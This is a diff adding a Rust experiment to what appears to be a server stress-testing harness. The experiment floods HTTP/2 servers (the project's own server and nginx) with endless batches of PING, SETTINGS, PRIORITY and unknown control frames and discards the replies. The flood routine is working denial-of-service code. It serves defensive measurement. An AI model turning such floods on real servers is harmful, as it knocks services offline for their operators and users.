@@ -1,0 +1,91 @@
+//! `hostile/control-frames`: floods of HTTP/2 frames that ask for nothing.
+
+use std::error::Error;
+use std::io;
+
+use super::{NGINX, SOFTCLOCK};
+use crate::hostile::frames::{MAX_WINDOW, PING, PRIORITY, SETTINGS, UNKNOWN, frame, opening};
+use crate::hostile::link::{Link, again_and_again};
+use crate::hostile::table;
+use crate::hostile::tally::Tally;
+use crate::hostile::trial::{Case, Ground};
+use crate::report::{Context, Experiment, Report};
+
+/// The experiment.
+pub const EXPERIMENT: Experiment = Experiment {
+    name: "hostile/control-frames",
+    about: "floods of PING, SETTINGS, PRIORITY and unknown HTTP/2 frames on 1 and 8 connections",
+    run,
+};
+
+fn run(context: &Context) -> Result<Report, Box<dyn Error>> {
+    let connections: &[usize] = if context.smoke { &[8] } else { &[1, 8] };
+    let mut cases = Vec::new();
+    for &connections in connections {
+        for flood in &FLOODS {
+            cases.push(Case {
+                name: format!("{} frames on {connections} connections", flood.name),
+                attack: Box::new(|against| {
+                    again_and_again(against, |link| flood.send(link, against.tally));
+                }),
+                threads: connections,
+                units: "frames",
+                subjects: vec![SOFTCLOCK, NGINX],
+                ground: Ground::Files,
+            });
+        }
+    }
+    table::report(context, "floods of HTTP/2 control frames", cases, &NOTES)
+}
+
+/// A frame that is sent without end.
+struct Flood {
+    name: &'static str,
+    kind: u8,
+    stream: u32,
+    payload: &'static [u8],
+}
+
+const FLOODS: [Flood; 4] = [
+    Flood {
+        name: "PING",
+        kind: PING,
+        stream: 0,
+        payload: b"softtime",
+    },
+    Flood {
+        name: "SETTINGS",
+        kind: SETTINGS,
+        stream: 0,
+        payload: b"",
+    },
+    Flood {
+        name: "PRIORITY",
+        kind: PRIORITY,
+        stream: 1,
+        payload: &[0, 0, 0, 0, 7],
+    },
+    Flood {
+        name: "unknown",
+        kind: UNKNOWN,
+        stream: 0,
+        payload: b"",
+    },
+];
+
+impl Flood {
+    fn send(&self, link: &mut Link<'_>, tally: &Tally) -> io::Result<()> {
+        link.send(&opening(MAX_WINDOW))?;
+        let batch = frame(self.kind, 0, self.stream, self.payload).repeat(BATCH);
+        while tally.goes_on() {
+            link.send(&batch)?;
+            tally.units.add(BATCH);
+        }
+        Ok(())
+    }
+}
+
+/// Frames that are sent at once.
+const BATCH: usize = 1000;
+
+const NOTES: [&str; 1] = ["the attacker reads and forgets what the server answers"];
